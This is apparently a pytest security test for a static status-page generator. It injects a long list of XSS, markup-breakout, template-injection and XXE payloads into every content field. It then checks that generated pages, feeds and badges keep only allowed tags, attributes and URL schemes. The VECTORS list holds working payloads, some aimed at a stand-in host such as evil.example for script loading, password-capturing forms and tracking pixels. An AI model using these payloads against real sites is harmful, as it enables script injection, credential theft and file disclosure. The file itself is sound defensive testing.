"""Hostile text in every field of every kind of content: no page and no feed lets any of it act."""

from __future__ import annotations

import re
from datetime import timedelta
from functools import cache
from xml.etree import ElementTree as ET
from zoneinfo import ZoneInfo

import feedparser
import pytest
from html_reader import Read, read_html
from sites import NOW, render

from statusgen.model.entries import Action, Change, Incident, Notice, Page, ProblemReport, Update
from statusgen.model.markup import ALLOWED_SCHEMES, ALLOWED_TAGS
from statusgen.model.site import Component, Content, Group, Site
from statusgen.model.states import ChangeStatus, IncidentStatus, ProblemStatus, State

# Each would run a script, ask another host, take over the page or break out of its place, where it is not met.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "</title><script>alert(1)</script>",
    "</p></div></article></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href='x' onmouseover='alert(1)' autofocus onfocus=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext>",
    "<p id=main class=verdict>x</p><a name=main>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\u00a0javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='//evil.example' target=_blank ping=//evil.example>x</a>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example/y.gif)',
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example 't\" onmouseover=\"alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "\"><script>alert(1)</script>",
    "{{ 31*37 }} {% for x in range(9) %}1147{% endfor %} {# x #}",
    "{{ site.__class__.__mro__ }}${31*37}<%= 31*37 %>#{31*37}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<b><i>not closed <a href='https://a.example'>",
    "</b></i></a></ul></p></html>",
    "\u202e\u2066gnp.exe\u2069 \ufeff\u200b\u2028\u2029",
]  # fmt: skip

OF_THE_THEME = frozenset(
    "html head meta title link body header nav main footer section article time svg path rect meter label".split()
)
_ATTRIBUTES = """
dir lang charset name content rel href type title class id aria-label aria-labelledby datetime open start align data-var
role tabindex scope colspan viewbox preserveaspectratio d width height x y aria-hidden focusable min max value
property target
data-until data-starts data-ends data-copy data-copied data-local data-to-site data-to-local
data-find data-years data-label data-found data-more data-failed
"""
ATTRIBUTES = frozenset(_ATTRIBUTES.split())
SCHEMES = {"http", "https", "mailto", "tel"}
OWN_SCRIPT = re.compile(r"(\.\./|/)*assets/page\.[0-9a-f]{10}\.js")
# Of our own, where there is a calendar to follow.
CALENDARS = "webcal://status.acme.example/"


def hostile_content(text: str) -> Content:
    """Every kind of content with `text` wherever an author can write."""
    line = " ".join(text.split())
    site = Site(
        name=line,
        url="https://status.acme.example/",
        zone=ZoneInfo("Europe/Berlin"),
        description=line,
        groups=(Group("edge", line, line),),
        components=(Component("api", line, line), Component("web", line, line, "edge")),
        links=((line, "https://acme.example"),),
    )
    hour = timedelta(hours=1)
    open_updates = (
        Update("update-1", IncidentStatus.INVESTIGATING, NOW - 3 * hour, text, (("api", State.MAJOR_OUTAGE),)),
        Update("update-2", IncidentStatus.IDENTIFIED, NOW - 2 * hour, f"One line.\n\n{text}", (), NOW + hour),
    )
    closed = (Update("update-3", IncidentStatus.RESOLVED, NOW - hour, text),)
    states = (("web", State.PARTIAL_OUTAGE),)
    planned = (Update("update-4", ChangeStatus.SCHEDULED, NOW - 9 * hour, text),)
    return Content(
        site=site,
        incidents=(
            Incident("closed", "incidents/closed.md", line, text, states, NOW - 4 * hour, (*open_updates, *closed)),
            Incident("open", "incidents/open.md", line, text, states, NOW - 3 * hour, open_updates),
        ),
        changes=(
            Change("run", "changes/run.md", line, text, states, NOW - hour, NOW + hour, planned),
            Change("plan", "changes/plan.md", line, text, states, NOW + hour, NOW + 2 * hour, planned),
        ),
        notices=(Notice("note", "notices/note.md", line, text, NOW - hour, None, True, ("api",)),),
        reports=tuple(
            ProblemReport(name, f"problems/{name}.md", line, text, ProblemStatus.KNOWN_ERROR, ("open",),
                          text, text, (Action(line, True),))
            for name in ("cause", "other")
        ),
        pages=(Page("about", "pages/about.md", line, text),),
    )  # fmt: skip


def assert_harmless(read: Read, tags: frozenset[str], where: str) -> None:
    assert read.tags <= tags, (where, read.tags - tags)
    assert read.attributes <= ATTRIBUTES, (where, read.attributes - ATTRIBUTES)
    assert read.schemes <= SCHEMES, (where, read.schemes)
    assert not read.unclosed and not read.others, (where, read.unclosed, read.others)
    assert "1147" not in "".join(read.text).replace("%}1147{%", ""), where


@pytest.mark.parametrize("text", VECTORS)
def test_hostile_text_is_only_text(text: str) -> None:
    assert set(ALLOWED_SCHEMES) == SCHEMES
    harmless = harmless_pages()
    for path, data in render(hostile_content(text)).items():
        if _is_page(path):
            read = read_html(data)
            _drop_calendars(read)
            _drop_script(read)
            assert_harmless(read, OF_THE_THEME | ALLOWED_TAGS - {"img"}, path)
            assert _head(read) == _head(harmless[path]), path
            assert read.ids == harmless[path].ids, path
        elif path.endswith(".rss"):
            _check_feed(data, path)
        elif path.startswith("badges/") and path.endswith(".svg"):
            tags = {element.tag.partition("}")[2] for element in ET.fromstring(data).iter()}  # noqa: S314
            assert tags == {"svg", "title", "style", "path", "text"}, path


@cache
def harmless_pages() -> dict[str, Read]:
    return {path: read_html(data) for path, data in render(hostile_content("Harmless")).items() if _is_page(path)}


def _drop_calendars(read: Read) -> None:
    ours = [given for _, given in read.elements if given.get("href", "").startswith(CALENDARS)]
    for given in ours:
        assert given.pop("href").endswith("/calendar.ics")


def _drop_script(read: Read) -> None:
    """The theme's own, of which there is one at most."""
    ours = [one for one in read.elements if one[0] == "script"]
    assert len(ours) <= 1
    for one in ours:
        assert OWN_SCRIPT.fullmatch(one[1]["src"])
        read.elements.remove(one)


def _is_page(path: str) -> bool:
    return path.endswith(".html")


def _head(read: Read) -> list[tuple[str, str, str]]:
    """What stands in the head, without texts: a page must not get more or other instructions for browsers."""
    found = [(tag, attributes) for tag, attributes in read.elements if tag in ("meta", "link", "html", "body", "title")]
    return [
        (tag, given.get("name", given.get("property", given.get("rel", ""))), given.get("href", ""))
        for tag, given in found
    ]


def _check_feed(data: bytes, path: str) -> None:
    feed = feedparser.parse(data)
    assert feed.bozo is False, feed.get("bozo_exception")
    assert feed.entries, path
    for item in ET.fromstring(data).iter("item"):  # noqa: S314
        assert_harmless(read_html(item.findtext("description", "")), frozenset(ALLOWED_TAGS - {"img"}), path)
        assert str(item.findtext("link")).startswith("https://status.acme.example/")


def test_the_table_is_of_some_size() -> None:
    assert len(set(VECTORS)) >= 70
